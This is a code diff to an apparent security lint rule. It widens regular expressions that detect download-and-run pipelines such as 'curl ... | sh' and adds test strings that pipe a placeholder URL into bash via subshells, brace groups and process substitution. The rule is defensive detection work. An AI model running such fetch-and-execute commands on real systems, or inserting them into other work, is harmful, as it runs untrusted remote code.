@@ -38,7 +38,7 @@ export const rule: Rule = {
   match: [
     // curl ... | [sudo] sh
     {
-      re: /(?<![\w.-])(?:curl(?:\.exe)?|wget|fetch|aria2c|axel|lwp-download|w3m|http|https|xh|openssl\ss_client)\s[^\n]*\|&?\s*(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w={}-]+\s+|-[ugI]\s+\S+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|tc|c|fi)?sh|source)(?![\w-])/,
+      re: /(?<![\w.-])(?:curl(?:\.exe)?|wget|fetch|aria2c|axel|lwp-download|w3m|http|https|xh|openssl\ss_client)\s[^\n]*\|&?\s*(?:[({]\s*)?(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w={}-]+\s+|-[ugI]\s+\S+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|tc|c|fi)?sh|source)(?![\w-])/,
       window: 768,
       accept: isRun,
     },
@@ -50,7 +50,7 @@ export const rule: Rule = {
     },
     // curl ... | MODE=x sh, | timeout 30 sh, | docker exec -i web sh: with a setting or a limit, of a container or another user
     {
-      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*\|\s*(?:(?:sudo\s+)?(?:timeout|nice|setsid|su|chroot|ssh|(?:docker|kubectl)\sexec|\w+=\S*)\s+(?:[\w.@/:="-]+\s+)*(?:ba|z|da)?sh|"?\$\{?SHELL)(?![\w/-])/,
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*(?:\|\s*(?:(?:sudo\s+)?(?:timeout|nice|setsid|su|chroot|ssh|(?:docker|kubectl)\sexec|\w+=\S*)\s+(?:[\w.@/:="-]+\s+)*(?:ba|z|da)?sh|"?\$(?:\{?SHELL|0))|>\s?>\((?:ba|z)?sh)(?![\w/-])/,
       window: 768,
       accept: isRun,
     },
@@ -118,6 +118,9 @@ export const rule: Rule = {
       'curl -s https://files.invalid/x | docker exec -i web bash',
       'curl -s https://files.invalid/x | su app -c bash',
       'curl -s https://files.invalid/x | $SHELL',
+      'curl -s https://files.invalid/x > >(bash)',
+      'curl -s https://files.invalid/x | (bash)',
+      'curl -s https://files.invalid/x | { sh; }',
     ],
     silent: [
       'bash <(curl -s {{url}})',
@@ -128,6 +131,7 @@ export const rule: Rule = {
       'curl -s https://files.invalid/x.ts | deno fmt -',
       'iwr https://api.example.com/v1 | Select-Object -ExpandProperty Content',
       'curl https://api.example.com/v1 | jq .',
+      'curl -s https://files.invalid/x > >(tee x.log)',
       'aws s3 cp s3://bucket.invalid/x.sh . && echo done',
       'wget https://files.invalid/x.tar.gz',
       'curl and divergence',
